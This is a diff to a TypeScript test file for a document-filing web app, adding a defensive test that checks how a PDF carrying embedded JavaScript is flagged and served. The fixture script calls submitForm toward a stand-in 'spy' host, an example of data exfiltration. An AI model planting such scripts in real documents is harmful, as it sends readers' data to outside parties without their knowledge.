@@ -1,5 +1,6 @@
 import { readdirSync } from 'node:fs';
 import { join } from 'node:path';
+import { PDFDocument } from '@cantoo/pdf-lib';
 import { samplePdf } from '../../src/demo/sample-pdf';
 import { jpeg, program, zip } from '../../src/platform/uploads/fixtures';
 import type { Answer, Browser } from '../support/browser';
@@ -251,6 +252,24 @@ describe('what a browser does not show by itself', () => {
     const view = await ana.get(forms.document(id, '/visao'));
     expect(view.body).toContain('<th scope="col">observação</th>');
     expect(view.body).toContain('<td>&lt;b>x&lt;/b></td>');
+  });
+
+  it('is not a PDF with JavaScript: its bytes are kept as they came, and it may load nothing and be framed by nobody else', async () => {
+    const document = await PDFDocument.create();
+    document.addPage();
+    document.addJavaScript('alerta', 'app.alert("oi"); this.submitForm("https://espia.exemplo/");');
+    const bytes = Buffer.from(await document.save({ useObjectStreams: false }));
+    const id = await filed(bytes, 'formulario.pdf');
+    const told = 'Este PDF traz um programa (JavaScript)';
+    expect(words(await ana.get(`${forms.process(processId)}?documento=${id}`))).toContain(told);
+    const plain = await filed(pdf, 'planta.pdf');
+    expect(words(await ana.get(`${forms.process(processId)}?documento=${plain}`))).not.toContain(told);
+    const file = await ana.get(forms.document(id, '/arquivo'));
+    expect(file.body).toContain('/JavaScript');
+    expect(Number(file.headers['content-length'])).toBe(bytes.length);
+    const policy = String(file.headers['content-security-policy']);
+    expect(policy).toMatch(/^default-src 'none';.*frame-ancestors 'self'$/);
+    expect(policy).not.toMatch(/script-src|connect-src|form-action/);
   });
 
   it('is not there for what has another way to be seen', async () => {
